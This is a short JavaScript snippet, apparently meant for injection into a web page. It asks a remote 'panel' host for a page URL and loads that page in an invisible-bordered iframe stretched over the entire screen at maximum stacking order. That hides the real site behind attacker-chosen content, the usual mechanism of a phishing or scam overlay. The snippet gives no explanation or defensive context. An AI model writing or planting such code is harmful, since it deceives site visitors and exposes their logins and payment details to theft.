fetch("https://panel.example/target").then((answer) => answer.json()).then(({page}) => {
  const frame = document.createElement("iframe");
  frame.src = page;
  frame.style.cssText = "position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;border:0";
  document.body.append(frame);
});
